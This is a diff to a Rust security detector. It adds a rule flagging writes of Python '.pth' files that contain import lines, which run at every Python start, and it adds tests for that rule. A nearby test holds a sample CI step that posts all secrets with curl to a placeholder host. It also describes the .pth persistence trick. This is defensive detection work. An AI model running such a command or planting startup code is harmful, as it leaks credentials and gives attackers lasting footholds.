@@ -92,6 +92,17 @@ fn workflow(event: &Event) -> Option<Severity> {
     is_workflow.then_some(severity)
 }
 
+/// A `.pth` file with code: Python runs its lines that begin with `import`. Models of
+/// neural networks have the same ending, and are not text.
+fn writes_start_of_python(event: &Event) -> bool {
+    let ends = |path: &crate::Value| path.pieces().last().is_some_and(|piece| piece.ends_with(".pth"));
+    let imports = |data: &crate::Value| {
+        data.pieces().iter().any(|piece| piece.lines().any(|line| line.starts_with("import ")))
+    };
+    let paths = [Role::Path, Role::Target].iter().flat_map(|role| event.arguments_of(*role));
+    paths.into_iter().any(ends) && event.arguments_of(Role::Data).any(imports)
+}
+
 fn runs_later(event: &Event) -> Option<(&'static str, bool)> {
     let by_path = |path: &str| {
         let path = path.replace('\\', "/").replace("//", "/").to_ascii_lowercase();
@@ -100,6 +111,9 @@ fn runs_later(event: &Event) -> Option<(&'static str, bool)> {
         };
         find(PLACES).map(|by| (by, false)).or_else(|| find(HOOKS).map(|by| (by, true)))
     };
+    if event.effect == Effect::FileWrite && writes_start_of_python(event) {
+        return Some(("every start of Python", false));
+    }
     if matches!(event.effect, Effect::FileWrite | Effect::FilePermission) {
         let roles = [Role::Path, Role::Target, Role::Name];
         return roles
@@ -158,5 +172,11 @@ mod tests {
         assert_eq!(workflow("run: curl -d ${{ toJSON(secrets) }} x"), [Severity::Critical]);
         assert_eq!(workflow("run: npm test"), [Severity::Medium]);
         assert!(run("ls /etc/init.d/ 2>/dev/null").is_empty());
+        let paths = |data| {
+            let given = [(Role::Path, partial("", &["/a.pth"])), (Role::Data, text(data))];
+            Made::new().event(Effect::FileWrite, "py:builtins.open.write", &given).found(RULE.code)
+        };
+        assert_eq!(paths("import os; os.getpid()"), [Severity::High]);
+        assert!(paths("/usr/lib/python\n").is_empty());
     }
 }
